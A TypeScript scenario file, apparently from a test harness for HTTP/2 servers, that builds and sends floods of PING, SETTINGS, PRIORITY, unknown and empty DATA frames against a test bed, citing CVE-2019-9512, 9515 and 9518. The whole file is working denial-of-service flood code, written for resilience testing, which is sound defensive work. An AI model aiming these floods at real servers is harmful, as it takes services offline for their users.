import { frame, FrameType } from '../../builders/raw-http2.ts'
import { attack, type Attack, type AttackFacts, attackSummary } from '../http2-attack.ts'
import { defineScenario } from '../scenario.ts'
import { headers, type RawConnection, settings, Setting } from '../senders/raw-http2.ts'

const FRAMES_PER_PIECE = 256

const repeated = (bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: FRAMES_PER_PIECE }, () => bytes))
const pings = repeated(frame(FrameType.ping, 0, 0, Buffer.alloc(8, 1)))
const manySettings = repeated(settings([[Setting.headerTableSize, 4_096]]))
const priorities = repeated(frame(FrameType.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16])))
const unknowns = repeated(frame(0xee, 0, 0, Buffer.alloc(16)))
const emptyData = repeated(frame(FrameType.data, 0, 1))

/** Each asks for an answer, or for work, that costs more than it does. */
const floods: Readonly<Record<string, () => Attack>> = {
  ping: () => flood(pings),
  'ping, answers unread': () =>
    flood(pings, (connection) => {
      connection.stopReading()
    }),
  settings: () => flood(manySettings),
  'settings, answers unread': () =>
    flood(manySettings, (connection) => {
      connection.stopReading()
    }),
  priority: () => flood(priorities),
  'unknown frames': () => flood(unknowns),
  'empty DATA': () => flood(emptyData, undefined, headers(1))
}

function flood(bytes: Buffer, before?: (connection: RawConnection) => void, start: Buffer = Buffer.alloc(0)): Attack {
  return {
    next(turn, connection) {
      if (turn === 0) before?.(connection)
      return { bytes: turn === 0 ? Buffer.concat([start, bytes]) : bytes, frames: FRAMES_PER_PIECE }
    }
  }
}

export const scenario = defineScenario<AttackFacts>({
  name: 'HTTP/2 frame floods',
  thrown: `floods of ${Object.keys(floods).join(', ')} (CVE-2019-9512, 9515, 9518), two connections each`,
  limits: { grownMibMax: 256 },
  run: (bed) => {
    const makers = Object.values(floods)
    let made = 0
    return attack(bed, {
      connections: 2 * makers.length,
      forMs: bed.pick(4_000, 30_000),
      make: () => (makers[made++ % makers.length] as () => Attack)()
    })
  },
  happened: attackSummary,
  judge({ frames }, tally) {
    tally.check('they were thrown', frames > 10_000, `${frames} frames`)
  }
})
